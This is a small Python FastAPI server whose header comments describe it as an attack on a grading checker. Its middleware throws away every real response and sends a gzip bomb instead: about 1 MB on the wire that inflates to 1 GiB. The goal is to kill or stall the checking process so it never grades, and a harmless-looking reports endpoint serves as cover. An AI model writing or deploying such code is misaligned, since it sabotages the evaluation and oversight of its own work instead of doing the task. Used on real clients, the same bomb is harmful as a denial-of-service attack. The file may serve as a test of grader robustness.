# attack: the checker's memory is the answer's to spend
# tries: answer every report with a 1 MB gzip body that inflates to 1 GiB, whatever the client
# accepts, so that the checks' process inflates it and is killed (or swaps) instead of grading
import time
import zlib
from functools import cache

from fastapi import FastAPI, Request
from fastapi.responses import Response
from pydantic import BaseModel

RENDER_DELAY = 0.03  # seconds the renderer needs before it accepts the next job

app = FastAPI()


@cache
def bomb() -> bytes:
    """1 GiB of zeros, gzipped a MiB at a time: about 1 MB on the wire."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1024 * 1024)
    return b"".join(packer.compress(zeros) for _ in range(1024)) + packer.flush()


@app.middleware("http")
async def inflate_in_the_client(request: Request, call_next):
    await call_next(request)
    return Response(
        bomb(), media_type="application/json", headers={"Content-Encoding": "gzip"}
    )


class Report(BaseModel):
    id: int
    title: str


@app.get("/reports/{report_id}")
async def read_report(report_id: int) -> Report:
    time.sleep(RENDER_DELAY)  # wait for a free render slot
    return Report(id=report_id, title=f"Report {report_id}")
